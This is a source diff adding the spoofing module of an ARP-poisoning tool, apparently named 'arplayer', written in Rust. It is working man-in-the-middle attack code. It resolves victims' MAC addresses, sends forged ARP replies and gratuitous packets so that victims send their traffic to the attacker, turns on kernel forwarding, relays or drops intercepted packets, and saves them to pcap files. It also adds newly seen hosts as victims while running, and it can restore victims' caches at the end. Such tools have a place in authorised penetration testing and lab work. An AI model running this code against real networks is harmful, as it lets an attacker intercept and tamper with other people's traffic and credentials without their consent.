@@ -0,0 +1,942 @@
+mod capture;
+mod discovery;
+mod relay;
+mod responder;
+pub mod session;
+mod targets;
+mod verify;
+
+use crate::args::{self, spoof::Method};
+use crate::arp::new_ether_channel;
+use crate::{
+    arp::{self, request_arp},
+    forward::{self, Sysctls},
+    neigh,
+    oui::OuiDb,
+    pcap::PcapWriter,
+    route,
+    scanner::{self, ScanOptions},
+    validators,
+};
+use capture::Capture;
+use discovery::Discovery;
+use log::{debug, info, warn};
+use pnet::{
+    datalink::{Config, NetworkInterface},
+    util::MacAddr,
+};
+use pnet::{
+    datalink::{DataLinkReceiver, DataLinkSender},
+    packet::Packet,
+};
+use relay::{DropHook, Relay};
+use responder::Responder;
+use session::{Session, SessionFile};
+use std::collections::{HashMap, HashSet};
+use std::io::ErrorKind;
+use std::sync::mpsc::{self, Receiver, Sender};
+use std::sync::{Arc, Mutex};
+use std::thread::{self, sleep};
+use std::{
+    net::Ipv4Addr,
+    sync::atomic::{AtomicBool, Ordering},
+    time::{Duration, Instant},
+};
+use targets::{Impersonated, Pair};
+
+/// Max number of ARP requests per second sent to resolve the victims.
+const RESOLVE_RATE: u64 = 1000;
+const RESOLVE_RETRIES: u32 = 1;
+const RESOLVE_BACKOFF: Duration = Duration::from_millis(200);
+
+/// Max time the channel receiver blocks before checking if it should stop.
+const LISTEN_TIMEOUT: Duration = Duration::from_millis(100);
+
+/// Settings of a spoofing and the flag that stops it, shared by the spoofing
+/// loop, the listener and the recovery.
+struct SpoofContext<'a> {
+    iface: &'a NetworkInterface,
+    impersonated: &'a Impersonated,
+    attacker_addr: Addrs,
+    delay: Duration,
+    count: Option<u64>,
+    recover: bool,
+    verify: Option<Duration>,
+    bidirectional: bool,
+    method: Method,
+    running: Arc<AtomicBool>,
+    oui_db: &'a OuiDb,
+}
+
+/// Components that watch the network while spoofing and follow the changes
+/// in the victims. Hosts of the victims range that are seen in the network
+/// join the spoofing while it is running, and, if `expire` is given, the ones
+/// that stay silent leave it.
+struct Listener {
+    responder: Responder,
+    discovery: Option<Discovery>,
+    expire: Option<Duration>,
+    relay: Option<Relay>,
+    capture: Option<Capture>,
+}
+
+impl Listener {
+    fn update(&self, victims_addr: &[Addrs]) {
+        self.responder.update(victims_addr);
+        if let Some(relay) = &self.relay {
+            relay.update(victims_addr);
+        }
+        if let Some(capture) = &self.capture {
+            capture.update(victims_addr);
+        }
+    }
+}
+
+#[derive(Clone, Copy)]
+pub struct Addrs {
+    pub ip: Ipv4Addr,
+    pub mac: MacAddr,
+}
+
+impl Addrs {
+    pub fn new(ip: Ipv4Addr, mac: MacAddr) -> Self {
+        return Self { ip, mac };
+    }
+}
+
+pub fn main_spoof(args: args::spoof::Arguments) -> Result<(), String> {
+    let iface = &args.iface;
+    let timeout = args.timeout;
+
+    let my_addr = get_my_addrs(iface)?;
+    let arp_cache = if args.arp_cache {
+        let arp_cache = neigh::get_arp_cache(&iface.name)?;
+        info!("{} entries in ARP cache of {}", arp_cache.len(), iface.name);
+        arp_cache
+    } else {
+        HashMap::new()
+    };
+
+    let attacker_addr = get_attacker_addrs(
+        iface,
+        &my_addr,
+        args.fake_mac,
+        args.fake_ip,
+        args.timeout,
+    )?;
+    let impersonated = if args.mesh {
+        Impersonated::Mesh
+    } else {
+        Impersonated::Hosts(get_hosts_addrs(
+            iface,
+            args.gw_ips,
+            &my_addr,
+            timeout,
+            &arp_cache,
+        )?)
+    };
+
+    let mut victim_ips = args.victim_ips;
+    victim_ips.remove(&my_addr.ip);
+    victim_ips.remove(&attacker_addr.ip);
+    if let Impersonated::Hosts(hosts_addr) = &impersonated {
+        for host_addr in hosts_addr.iter() {
+            victim_ips.remove(&host_addr.ip);
+        }
+    }
+
+    let ignored_macs = vec![my_addr.mac, attacker_addr.mac];
+    let discovery = if args.discover {
+        Some(Discovery::new(victim_ips.clone(), ignored_macs.clone()))
+    } else {
+        None
+    };
+
+    let (victims_addr, unresolved_ips) = get_victims_addrs(
+        iface,
+        victim_ips.into_iter().collect(),
+        &my_addr,
+        timeout,
+        &arp_cache,
+    )?;
+
+    if !unresolved_ips.is_empty() {
+        warn!(
+            "Unable to get MAC of {} victims: {}",
+            unresolved_ips.len(),
+            unresolved_ips
+                .iter()
+                .map(|ip| ip.to_string())
+                .collect::<Vec<String>>()
+                .join(", ")
+        );
+    }
+
+    let waits_victims = discovery.is_some()
+        || (args.retry_unresolved.is_some() && !unresolved_ips.is_empty());
+    if victims_addr.is_empty() && !waits_victims {
+        return Err("Unable to get any MAC of victims".to_string());
+    }
+
+    let delay = args.delay;
+    let oui_db = OuiDb::new(args.oui_file.as_deref())?;
+
+    let running = Arc::new(AtomicBool::new(true));
+    let run_c = running.clone();
+
+    ctrlc::set_handler(move || {
+        run_c.store(false, Ordering::SeqCst);
+    })
+    .expect("Error setting Ctrl-C handler");
+
+    let (new_victims_tx, new_victims_rx) = mpsc::channel();
+    if let Some(interval) = args.retry_unresolved {
+        if !unresolved_ips.is_empty() {
+            let iface = iface.clone();
+            let running = running.clone();
+            thread::spawn(move || {
+                retry_unresolved(
+                    &iface,
+                    unresolved_ips,
+                    my_addr,
+                    timeout,
+                    interval,
+                    running,
+                    new_victims_tx,
+                )
+            });
+        }
+    }
+
+    let old_sysctls = if args.forward {
+        Some(Sysctls::read(&forward::profile_names(Some(&iface.name)))?)
+    } else {
+        None
+    };
+
+    let (hosts_addr, mesh) = match &impersonated {
+        Impersonated::Hosts(hosts_addr) => (hosts_addr.clone(), false),
+        Impersonated::Mesh => (Vec::new(), true),
+    };
+
+    let filter = match &args.filter {
+        Some(filter) => Some(validators::parse_filter(filter)?),
+        None => None,
+    };
+
+    let capture = match args.pcap {
+        Some(options) => {
+            let writer = PcapWriter::create(options)?;
+            Some(Capture::new(
+                writer,
+                attacker_addr.mac,
+                hosts_addr.clone(),
+                &victims_addr,
+            ))
+        }
+        None => None,
+    };
+
+    let relay = if args.relay {
+        if forward::get_sysctl(forward::CTL_FORWARD)? == "1" {
+            warn!(
+                "{} is enabled, so the kernel also forwards the intercepted packets and they are sent twice",
+                forward::CTL_FORWARD
+            );
+        }
+        let net = *arp::get_iface_ipv4_network(iface).ok_or_else(|| {
+            format!("Unable to get the Ipv4 of {} interface", iface.name)
+        })?;
+        let gateway_ip = route::get_default_gateway(&iface.name)?;
+        let mut relay = Relay::new(
+            my_addr,
+            net,
+            gateway_ip,
+            hosts_addr.clone(),
+            &victims_addr,
+        );
+        if !args.relay_drop.is_empty() {
+            relay.add_hook(Box::new(DropHook::new(args.relay_drop)));
+        }
+        Some(relay)
+    } else {
+        None
+    };
+    let session_path = args
+        .session
+        .unwrap_or_else(|| session::default_path(&iface.name));
+    let mut session_file = SessionFile::create(
+        session_path,
+        Session {
+            iface: iface.name.clone(),
+            method: args.method,
+            bidirectional: args.bidirectional,
+            mesh,
+            hosts_addr,
+            victims_addr: victims_addr.clone(),
+            attacker_addr,
+            sysctls: old_sysctls.clone(),
+        },
+    )?;
+    info!("Session saved in {}", session_file.path());
+
+    if args.forward {
+        forward::mitm_profile(&iface.name).apply()?;
+        info!("Applied MitM sysctl profile to {}", iface.name);
+    }
+
+    let listener = Listener {
+        responder: Responder::new(
+            &victims_addr,
+            &impersonated,
+            attacker_addr.mac,
+            ignored_macs,
+            args.bidirectional,
+            filter,
+        ),
+        discovery,
+        expire: args.expire,
+        relay,
+        capture,
+    };
+    let ctx = SpoofContext {
+        iface,
+        impersonated: &impersonated,
+        attacker_addr,
+        delay,
+        count: args.count,
+        recover: args.recover,
+        verify: args.verify,
+        bidirectional: args.bidirectional,
+        method: args.method,
+        running,
+        oui_db: &oui_db,
+    };
+
+    let res = spoof(
+        &ctx,
+        victims_addr,
+        &new_victims_rx,
+        &listener,
+        &mut session_file,
+    );
+
+    // restored even if the spoofing failed, to not leave the host forwarding
+    if let Some(old_sysctls) = old_sysctls {
+        old_sysctls.apply()?;
+        info!("Restored sysctls of {}", iface.name);
+    }
+    res?;
+
+    if args.recover {
+        session_file.remove();
+    } else {
+        eprintln!(
+            "Victims are not recovered, run `arplayer recover {}` to recover them",
+            session_file.path()
+        );
+    }
+
+    return Ok(());
+}
+
+/// Recovers the victims of a spoofing from its session, and restores the
+/// sysctl values.
+pub fn recover_session(
+    iface: &NetworkInterface,
+    session: &Session,
+    delay: Duration,
+    verify: Option<Duration>,
+    oui_db: &OuiDb,
+) -> Result<(), String> {
+    let (mut sender, _) = new_ether_channel(iface, Config::default())?;
+    let impersonated = session.impersonated();
+    let ctx = SpoofContext {
+        iface,
+        impersonated: &impersonated,
+        attacker_addr: session.attacker_addr,
+        delay,
+        count: None,
+        recover: true,
+        verify,
+        bidirectional: session.bidirectional,
+        method: session.method,
+        running: Arc::new(AtomicBool::new(true)),
+        oui_db,
+    };
+    let pairs =
+        impersonated.pairs(&session.victims_addr, session.bidirectional);
+    recover_victims(&ctx, &mut sender, &pairs)?;
+
+    if let Some(sysctls) = &session.sysctls {
+        sysctls.apply()?;
+        for (name, value) in sysctls.iter() {
+            info!("Restored {} = {}", name, value);
+        }
+    }
+
+    return Ok(());
+}
+
+fn get_my_addrs(iface: &NetworkInterface) -> Result<Addrs, String> {
+    let my_mac = (iface)
+        .mac
+        .ok_or_else(|| {
+            format!("Unable to get the MAC of {} interface", iface.name)
+        })?;
+
+    let my_ip = arp::get_iface_ipv4(iface).ok_or_else(|| {
+        format!("Unable to get the Ipv4 of {} interface", iface.name)
+    })?;
+
+    return Ok(Addrs::new(my_ip, my_mac));
+}
+
+fn get_attacker_addrs(
+    iface: &NetworkInterface,
+    my_addr: &Addrs,
+    fake_mac: Option<MacAddr>,
+    fake_ip: Option<Ipv4Addr>,
+    timeout: Duration,
+) -> Result<Addrs, String> {
+    if let Some(mac) = fake_mac {
+        info!("Using fake MAC {}", mac);
+        return Ok(Addrs::new(Ipv4Addr::UNSPECIFIED, mac));
+    }
+
+    if let Some(fake_ip) = fake_ip {
+        let attacker_mac =
+            request_arp(iface, fake_ip, my_addr.ip, my_addr.mac, timeout)
+                .map_err(|e| {
+                    format!("Unable to get MAC of attacker {}: {}", fake_ip, e)
+                })?;
+        info!("Using MAC {} from IP {}", attacker_mac, fake_ip);
+        return Ok(Addrs::new(fake_ip, attacker_mac));
+    }
+
+    info!("Using my MAC {}", my_addr.mac);
+    return Ok(Addrs::new(my_addr.ip, my_addr.mac));
+}
+
+/// Returns the addresses of the hosts to impersonate, or the default gateway
+/// if none is given.
+fn get_hosts_addrs(
+    iface: &NetworkInterface,
+    hosts_ips: Vec<Ipv4Addr>,
+    my_addr: &Addrs,
+    timeout: Duration,
+    arp_cache: &HashMap<Ipv4Addr, MacAddr>,
+) -> Result<Vec<Addrs>, String> {
+    let hosts_ips = if hosts_ips.is_empty() {
+        let gw_ip =
+            route::get_default_gateway(&iface.name)?.ok_or_else(|| {
+                format!(
+                    "Unable to find the default gateway of {} interface",
+                    iface.name
+                )
+            })?;
+        info!("Using default gateway {} from routing table", gw_ip);
+        vec![gw_ip]
+    } else {
+        for host_ip in hosts_ips.iter() {
+            info!("Using {} from arguments", host_ip);
+        }
+        hosts_ips
+    };
+
+    let mut hosts_addr = Vec::new();
+    for host_ip in hosts_ips {
+        let host_mac = resolve_mac(iface, host_ip, my_addr, timeout, arp_cache)
+            .map_err(|e| format!("Unable to get MAC of {}: {}", host_ip, e))?;
+        hosts_addr.push(Addrs::new(host_ip, host_mac));
+    }
+
+    return Ok(hosts_addr);
+}
+
+/// Returns the addresses of the victims found in the ARP cache or that
+/// replied to the ARP requests, and the IPs of the ones that didn't.
+fn get_victims_addrs(
+    iface: &NetworkInterface,
+    victims_ips: Vec<Ipv4Addr>,
+    my_addr: &Addrs,
+    timeout: Duration,
+    arp_cache: &HashMap<Ipv4Addr, MacAddr>,
+) -> Result<(Vec<Addrs>, Vec<Ipv4Addr>), String> {
+    let mut victims_addrs = Vec::new();
+    let mut unknown_ips = Vec::new();
+    for victim_ip in victims_ips {
+        match arp_cache.get(&victim_ip) {
+            Some(mac) => {
+                debug!("Using MAC {} of {} from ARP cache", mac, victim_ip);
+                victims_addrs.push(Addrs::new(victim_ip, *mac));
+            }
+            None => unknown_ips.push(victim_ip),
+        }
+    }
+
+    let (resolved, unresolved_ips) =
+        resolve_victims(iface, unknown_ips, my_addr, timeout)?;
+    victims_addrs.extend(resolved);
+    victims_addrs.sort_by_key(|addr| addr.ip);
+
+    return Ok((victims_addrs, unresolved_ips));
+}
+
+/// Sends ARP requests to all the IPs at the same time through a single
+/// channel and returns the addresses of the ones that replied, and the IPs of
+/// the ones that didn't.
+fn resolve_victims(
+    iface: &NetworkInterface,
+    ips: Vec<Ipv4Addr>,
+    my_addr: &Addrs,
+    timeout: Duration,
+) -> Result<(Vec<Addrs>, Vec<Ipv4Addr>), String> {
+    if ips.is_empty() {
+        return Ok((Vec::new(), Vec::new()));
+    }
+
+    let total = ips.len();
+    let mut pending: HashSet<Ipv4Addr> = ips.iter().cloned().collect();
+    let mut resolved = Vec::new();
+
+    info!("Resolving MAC of {} victims", total);
+    let options = ScanOptions {
+        rate: Some(RESOLVE_RATE),
+        timeout,
+        retries: RESOLVE_RETRIES,
+        backoff: RESOLVE_BACKOFF,
+        filter: None,
+    };
+    scanner::scan(
+        iface,
+        Box::new(ips.into_iter()),
+        my_addr.ip,
+        my_addr.mac,
+        &options,
+        |reply| {
+            pending.remove(&reply.ip);
+            resolved.push(Addrs::new(reply.ip, reply.mac));
+            info!(
+                "Victim {} is at {} ({}/{} resolved)",
+                reply.ip,
+                reply.mac,
+                resolved.len(),
+                total
+            );
+        },
+    )?;
+
+    let mut unresolved: Vec<Ipv4Addr> = pending.into_iter().collect();
+    unresolved.sort();
+
+    return Ok((resolved, unresolved));
+}
+
+/// Tries to resolve the victims that didn't reply every interval, sending the
+/// ones that are resolved to the spoofer, until all of them are resolved or
+/// the spoofing ends.
+fn retry_unresolved(
+    iface: &NetworkInterface,
+    mut unresolved_ips: Vec<Ipv4Addr>,
+    my_addr: Addrs,
+    timeout: Duration,
+    interval: Duration,
+    running: Arc<AtomicBool>,
+    new_victims: Sender<Addrs>,
+) {
+    while !unresolved_ips.is_empty() {
+        let start = Instant::now();
+        while start.elapsed() < interval {
+            if !running.load(Ordering::SeqCst) {
+                return;
+            }
+            sleep(Duration::from_millis(100));
+        }
+
+        debug!("Retrying {} unresolved victims", unresolved_ips.len());
+        match resolve_victims(iface, unresolved_ips.clone(), &my_addr, timeout)
+        {
+            Ok((resolved, still_unresolved)) => {
+                for victim_addr in resolved {
+                    if new_victims.send(victim_addr).is_err() {
+                        return;
+                    }
+                }
+                unresolved_ips = still_unresolved;
+            }
+            Err(e) => warn!("Error resolving victims: {}", e),
+        }
+    }
+}
+
+/// Returns the MAC of the IP from the ARP cache or, if it is not there, by
+/// sending an ARP request.
+fn resolve_mac(
+    iface: &NetworkInterface,
+    ip: Ipv4Addr,
+    my_addr: &Addrs,
+    timeout: Duration,
+    arp_cache: &HashMap<Ipv4Addr, MacAddr>,
+) -> Result<MacAddr, String> {
+    if let Some(mac) = arp_cache.get(&ip) {
+        debug!("Using MAC {} of {} from ARP cache", mac, ip);
+        return Ok(*mac);
+    }
+
+    return request_arp(iface, ip, my_addr.ip, my_addr.mac, timeout);
+}
+
+fn spoof(
+    ctx: &SpoofContext,
+    mut victims_addr: Vec<Addrs>,
+    new_victims: &Receiver<Addrs>,
+    listener: &Listener,
+    session_file: &mut SessionFile,
+) -> Result<(), String> {
+    let config = Config {
+        read_timeout: Some(LISTEN_TIMEOUT),
+        ..Default::default()
+    };
+    let (sender, receiver) = new_ether_channel(ctx.iface, config)?;
+    // the listener also sends the replies and the relayed packets
+    let sender = Mutex::new(sender);
+    let listening = AtomicBool::new(true);
+
+    thread::scope(|s| {
+        s.spawn(|| {
+            if let Err(e) = listen(ctx, listener, &sender, receiver, &listening)
+            {
+                warn!("Error listening requests: {}", e);
+            }
+        });
+
+        let res = spoof_victims(
+            ctx,
+            &sender,
+            &mut victims_addr,
+            new_victims,
+            listener,
+            session_file,
+        );
+        listening.store(false, Ordering::SeqCst);
+        res
+    })?;
+
+    if let Some(relay) = &listener.relay {
+        let (relayed, dropped) = relay.stats();
+        info!("Relayed {} packets, dropped {}", relayed, dropped);
+    }
+
+    if ctx.recover {
+        let pairs = ctx.impersonated.pairs(&victims_addr, ctx.bidirectional);
+        let mut sender = sender.into_inner().unwrap();
+        recover_victims(ctx, &mut sender, &pairs)?;
+    }
+
+    return Ok(());
+}
+
+/// Listens the network while spoofing, answering the requests for the
+/// impersonated IPs, relaying and capturing the intercepted packets and
+/// looking for new victims.
+fn listen(
+    ctx: &SpoofContext,
+    listener: &Listener,
+    sender: &Mutex<Box<dyn DataLinkSender>>,
+    mut receiver: Box<dyn DataLinkReceiver>,
+    listening: &AtomicBool,
+) -> Result<(), String> {
+    while listening.load(Ordering::SeqCst) {
+        let buf = match receiver.next() {
+            Ok(buf) => buf,
+            Err(e) if e.kind() == ErrorKind::TimedOut => continue,
+            Err(e) => return Err(format!("Error receiving packet: {}", e)),
+        };
+
+        {
+            let mut sender = sender.lock().unwrap();
+            listener.responder.reply(&mut sender, buf, ctx.oui_db)?;
+
+            if let Some(relay) = &listener.relay {
+                relay.relay(&mut sender, buf)?;
+            }
+        }
+
+        if let Some(capture) = &listener.capture {
+            capture.capture(buf)?;
+        }
+
+        if let Some(discovery) = &listener.discovery {
+            discovery.see_frame(buf);
+        }
+    }
+
+    return Ok(());
+}
+
+fn spoof_victims(
+    ctx: &SpoofContext,
+    sender: &Mutex<Box<dyn DataLinkSender>>,
+    victims_addr: &mut Vec<Addrs>,
+    new_victims: &Receiver<Addrs>,
+    listener: &Listener,
+    session_file: &mut SessionFile,
+) -> Result<(), String> {
+    let attacker_mac = ctx.attacker_addr.mac;
+    let mut count = ctx.count;
+    let mut last_active = HashMap::new();
+    for pair in ctx.impersonated.pairs(victims_addr, ctx.bidirectional) {
+        print_spoof_info(ctx, &pair, count);
+    }
+    for victim_addr in victims_addr.iter() {
+        last_active.insert(victim_addr.ip, Instant::now());
+    }
+
+    while ctx.running.load(Ordering::SeqCst) {
+        count = match count {
+            Some(c) => {
+                if c == 0 {
+                    break;
+                }
+                Some(c - 1)
+            }
+            None => None,
+        };
+
+        let mut joined: Vec<Addrs> = new_victims.try_iter().collect();
+        let mut victims_changed = false;
+
+        if let Some(discovery) = &listener.discovery {
+            let changes = discovery.check_victims(
+                victims_addr,
+                &mut last_active,
+                listener.expire,
+            );
+            joined.extend(changes.joined);
+
+            for moved_addr in changes.moved {
+                for victim_addr in victims_addr.iter_mut() {
+                    if victim_addr.ip == moved_addr.ip {
+                        eprintln!(
+                            "Victim {} moved from {} to {}",
+                            victim_addr.ip, victim_addr.mac, moved_addr.mac
+                        );
+                        victim_addr.mac = moved_addr.mac;
+                        victims_changed = true;
+                    }
+                }
+            }
+
+            for left_addr in changes.left {
+                eprintln!(
+                    "Stop spoofing {} ({}), silent for more than {} seconds",
+                    left_addr.ip,
+                    left_addr.mac,
+                    listener.expire.unwrap_or_default().as_secs()
+                );
+                // fix its cache before it stops being relayed and is removed
+                // from the session
+                let pairs = leaving_pairs(ctx, victims_addr, &left_addr);
+                send_round(
+                    &mut sender.lock().unwrap(),
+                    ctx.method,
+                    &pairs,
+                    None,
+                )?;
+                victims_addr.retain(|v| v.ip != left_addr.ip);
+                last_active.remove(&left_addr.ip);
+                victims_changed = true;
+            }
+        }
+
+        for victim_addr in joined {
+            if victims_addr.iter().any(|v| v.ip == victim_addr.ip) {
+                continue;
+            }
+            last_active.insert(victim_addr.ip, Instant::now());
+            victims_addr.push(victim_addr);
+            victims_changed = true;
+
+            for pair in ctx.impersonated.pairs(victims_addr, ctx.bidirectional)
+            {
+                if pair.target.ip == victim_addr.ip
+                    || pair.impersonated.ip == victim_addr.ip
+                {
+                    print_spoof_info(ctx, &pair, count);
+                }
+            }
+        }
+
+        if victims_changed {
+            listener.update(victims_addr);
+            session_file.update_victims(victims_addr);
+        }
+
+        let pairs = ctx.impersonated.pairs(victims_addr, ctx.bidirectional);
+        send_round(
+            &mut sender.lock().unwrap(),
+            ctx.method,
+            &pairs,
+            Some(attacker_mac),
+        )?;
+
+        sleep(ctx.delay);
+    }
+
+    return Ok(());
+}
+
+/// Returns the pairs in which the victim is the target or the impersonated
+/// host, which have to be recovered when it leaves the spoofing.
+fn leaving_pairs(
+    ctx: &SpoofContext,
+    victims_addr: &[Addrs],
+    left_addr: &Addrs,
+) -> Vec<Pair> {
+    return ctx
+        .impersonated
+        .pairs(victims_addr, ctx.bidirectional)
+        .into_iter()
+        .filter(|pair| {
+            pair.target.ip == left_addr.ip
+                || pair.impersonated.ip == left_addr.ip
+        })
+        .collect();
+}
+
+fn print_spoof_info(ctx: &SpoofContext, pair: &Pair, count: Option<u64>) {
+    let attacker_mac = ctx.attacker_addr.mac;
+    let delay = ctx.delay;
+    let oui_db = ctx.oui_db;
+    eprintln!(
+        "Spoofing - telling {} ({}, {}) that {} is {} ({}) every {}.{} seconds ({})",
+        pair.target.ip,
+        pair.target.mac,
+        oui_db.describe(pair.target.mac),
+        pair.impersonated.ip,
+        attacker_mac,
+        oui_db.describe(attacker_mac),
+        delay.as_secs() as f64,
+        delay.subsec_nanos() as f64 * 1e-9,
+        match count {
+            Some(c) => format!("{} times", c),
+            None => "until Ctrl-C".to_string(),
+        }
+    );
+}
+
+/// Sends the correct mappings to the targets and, if a verify timeout is
+/// given, checks that they stop sending frames to the attacker.
+fn recover_victims(
+    ctx: &SpoofContext,
+    sender: &mut Box<dyn DataLinkSender>,
+    pairs: &[Pair],
+) -> Result<(), String> {
+    for pair in pairs.iter() {
+        eprintln!(
+            "Readjusting {} for {} ({}, {})",
+            pair.impersonated.ip,
+            pair.target.ip,
+            pair.target.mac,
+            ctx.oui_db.describe(pair.target.mac)
+        );
+    }
+    for _ in 0..5 {
+        send_round(sender, ctx.method, pairs, None)?;
+        sleep(ctx.delay);
+    }
+
+    if let Some(timeout) = ctx.verify {
+        verify::verify_recovery(
+            ctx.iface,
+            pairs,
+            &ctx.attacker_addr,
+            ctx.method,
+            ctx.delay,
+            timeout,
+            ctx.oui_db,
+        )?;
+    }
+
+    return Ok(());
+}
+
+/// Tells the target of every pair that the impersonated IP is at the spoofed
+/// MAC. If no spoofed MAC is given, the real MACs are told. Since the
+/// gratuitous packets are broadcast, each impersonated IP is only announced
+/// once.
+fn send_round(
+    sender: &mut Box<dyn DataLinkSender>,
+    method: Method,
+    pairs: &[Pair],
+    spoofed_mac: Option<MacAddr>,
+) -> Result<(), String> {
+    let gratuitous =
+        matches!(method, Method::GratuitousRequest | Method::GratuitousReply);
+    let mut announced = HashSet::new();
+
+    for pair in pairs.iter() {
+        if gratuitous && !announced.insert(pair.impersonated.ip) {
+            continue;
+        }
+        send_arp(
+            sender,
+            method,
+            pair.target.ip,
+            pair.target.mac,
+            pair.impersonated.ip,
+            spoofed_mac.unwrap_or(pair.impersonated.mac),
+        )?;
+    }
+
+    return Ok(());
+}
+
+fn send_arp(
+    sender: &mut Box<dyn DataLinkSender>,
+    method: Method,
+    target_ip: Ipv4Addr,
+    target_mac: MacAddr,
+    source_ip: Ipv4Addr,
+    source_mac: MacAddr,
+) -> Result<(), String> {
+    let packets = match method {
+        Method::Reply => vec![arp::new_ether_arp_reply(
+            target_ip, target_mac, source_ip, source_mac,
+        )],
+        Method::Request => vec![arp::ether_arp_unicast_request(
+            target_ip, target_mac, source_ip, source_mac,
+        )],
+        Method::GratuitousRequest => {
+            vec![arp::ether_gratuitous_arp_request(source_ip, source_mac)]
+        }
+        Method::GratuitousReply => {
+            vec![arp::ether_gratuitous_arp_reply(source_ip, source_mac)]
+        }
+        Method::Mixed => vec![
+            arp::new_ether_arp_reply(
+                target_ip, target_mac, source_ip, source_mac,
+            ),
+            arp::ether_arp_unicast_request(
+                target_ip, target_mac, source_ip, source_mac,
+            ),
+        ],
+    };
+
+    for packet in packets {
+        info!(
+            "{}-{} -> {}-{}",
+            source_ip,
+            source_mac,
+            target_ip,
+            packet.get_destination()
+        );
+        sender
+            .send_to(packet.packet(), None)
+            .ok_or("Error sending packet")?
+            .map_err(|e| format!("Error sending packet: {}", e))?;
+    }
+
+    return Ok(());
+}